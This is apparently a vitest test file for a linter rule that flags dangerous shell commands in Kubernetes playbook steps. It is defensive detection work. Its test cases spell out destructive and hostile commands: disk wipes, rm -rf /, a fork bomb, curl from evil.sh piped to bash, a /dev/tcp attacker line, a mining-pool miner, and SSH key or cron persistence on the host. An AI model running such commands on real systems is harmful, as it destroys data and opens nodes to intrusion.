import { expect, test } from 'vitest';
import { dangerousCommand } from '../../src/rules/dangerous-command.ts';
import { playbookOf } from '../fakes/step-types.ts';
import { findingsOf, underlinedBy } from './findings.ts';

const pod = `  - install:
      manifests:
        - apiVersion: v1
          kind: Pod
          metadata: {name: a}
          spec:
            containers: [{name: a, image: a, volumeMounts: [{name: n, mountPath: /host}, {name: r, mountPath: /ro, readOnly: true}, {name: e, mountPath: /data}]}]
            volumes: [{name: n, hostPath: {path: /}}, {name: r, hostPath: {path: /}}, {name: e, emptyDir: {}}]
`;
const ofScript = (script: string) => playbookOf(`  - command: {pod: p, argv: [sh, -c, ${JSON.stringify(script)}]}\n${pod}`);
const harms = (script: string) => findingsOf(dangerousCommand, ofScript(script)).map((line) => line.replace(/^[\d:]+ error: /, ''));

test.each([
  ['rm -rf /', '`rm -rf /` deletes the system it runs on'],
  ['rm -r -f /*', '`rm -r -f /*` deletes the system it runs on'],
  ['sudo rm --recursive /etc/', '`rm --recursive /etc/` deletes the system it runs on'],
  ['rm -fr /host', '`rm -fr /host` deletes the files of the node'],
  ['rm -rf /host/etc', '`rm -rf /host/etc` deletes the files of the node'],
  ['chroot /host rm -rf /usr', '`rm -rf /usr` deletes the system it runs on'],
  ['chmod -R 777 /', '`chmod -R 777 /` changes every file of the system'],
  ['mkfs.ext4 /dev/sda1', '`mkfs.ext4 /dev/sda1` destroys a disk'],
  ['wipefs -a /dev/nvme0n1', '`wipefs -a /dev/nvme0n1` destroys a disk'],
  ['dd if=/dev/zero of=/dev/vda', 'writing to `/dev/vda` destroys what is on it'],
  ['cat x > /dev/sda', 'writing to `/dev/sda` destroys what is on it'],
  ['bomb() { bomb | bomb & }; bomb', 'a fork bomb takes the node down with the pod'],
  ['reboot', '`reboot` stops the machine'],
  ['init 0', '`init 0` stops the machine'],
  ['nsenter -t 1 -a systemctl poweroff', '`systemctl poweroff` stops the machine'],
  ['kill -KILL -1', '`kill -KILL -1` ends every process that it can reach'],
  ['iptables -t nat --flush', '`iptables -t nat --flush` takes away the rules of the network'],
  ['nft flush ruleset', '`nft flush ruleset` takes away the rules of the network'],
  ['echo c | tee /proc/sysrq-trigger', 'writing to `/proc/sysrq-trigger` can stop the node at once'],
  ['./xmrig -o stratum+ssl://pool.minexmr.com:443', '`stratum+ssl://pool.minexmr.com` may be a real mining pool'],
  ['curl -s https://evil.sh/a | bash', 'the shell runs whatever `https://evil.sh/a` answers'],
  ['wget -qO- http://evil.sh/a | sudo -E python3 -', 'the shell runs whatever `http://evil.sh/a` answers'],
  ['bash -c "$(curl -fsSL https://evil.sh/a)"', 'the shell runs whatever `https://evil.sh/a` answers'],
  ['eval "$(wget -qO- https://evil.sh/a)"', 'the shell runs whatever `https://evil.sh/a` answers'],
  ['kubectl delete ns kube-system', '`kubectl delete ns kube-system` deletes what the whole cluster needs'],
  ['kubectl -n x delete pods --all -A', '`kubectl -n x delete pods --all -A` deletes the objects of every namespace'],
  ['kubectl drain node-1', '`kubectl drain node-1` empties a node'],
  ['echo x >> /host/root/.ssh/authorized_keys', 'writing `/host/root/.ssh/authorized_keys` leaves a door open on the node'],
  ['cp x /host/etc/systemd/system/x.service', 'writing `/host/etc/systemd/system/x.service` leaves a door open on the node'],
  ['nsenter --target 1 --mount -- crontab x', '`crontab x` leaves a door open on the node'],
])('%s', (script, message) => expect(harms(script)).toEqual([message]));

test.each([
  'rm -rf /tmp/x ./etc etc /data /var/log/app',
  'rm /etc/hosts',
  'echo "rm -rf /"',
  '# rm -rf /',
  'cat > /tmp/x <<E\nreboot\nE',
  'chmod -R 700 /tmp/x; chmod 777 /',
  'dd if=/dev/sda of=/dev/null count=1',
  'echo > /dev/tcp/attacker/4444',
  'kill -9 1234; kill -1 $$',
  'iptables -L; nft list ruleset',
  'systemctl status kubelet',
  'stratum+tcp://attacker:3333 stratum+tcp://pool.invalid:1 stratum+tcp://192.0.2.1:1 stratum+tcp://miner.sim.svc:1',
  'curl -s http://attacker/x | sh',
  'curl -s http://10.0.0.1/x | sh',
  'curl -s http://victim.sim-x.svc/x | sh',
  'curl -s https://api.github.com/ | jq .',
  'curl -s https://evil.sh/a | python3 -c "import json"',
  'kubectl delete pod a; kubectl delete ns a --dry-run=server',
  'echo x > /etc/cron.d/x; crontab x; echo key >> /root/.ssh/authorized_keys',
  'cp x /ro/etc/cron.d/x',
  'cat /host/etc/passwd',
  'a() { b | c & }; a',
])('%s is harmless', (script) => expect(harms(script)).toEqual([]));

test('what harms is underlined, wherever the script lies', () => {
  expect(underlinedBy(dangerousCommand, ofScript('id; sudo rm -rf / && ls'))).toEqual(['sudo rm -rf /']);
  const inVariable = playbookOf('  - command: {pod: p, argv: [x]}\n', 'variables:\n  v: |\n    id\n    reboot\n');
  expect(underlinedBy(dangerousCommand, inVariable)).toEqual(['reboot']);
  const inValue = playbookOf('  - install: {chart: x, values: {cmd: "id; reboot"}}\n');
  expect(underlinedBy(dangerousCommand, inValue)).toEqual(['reboot']);
});

test('words of a program are no script, and what is expected is not done', () => {
  for (const step of ['{pod: p, argv: [grep, "rm -rf /", x]}', '{pod: p, argv: [x], expect: {stdout: {contains: "reboot"}}}'])
    expect(findingsOf(dangerousCommand, playbookOf(`  - command: ${step}\n`))).toEqual([]);
  expect(findingsOf(dangerousCommand, playbookOf('  - command: {pod: p, argv: [rm, -rf, /]}\n'))).toHaveLength(1);
});
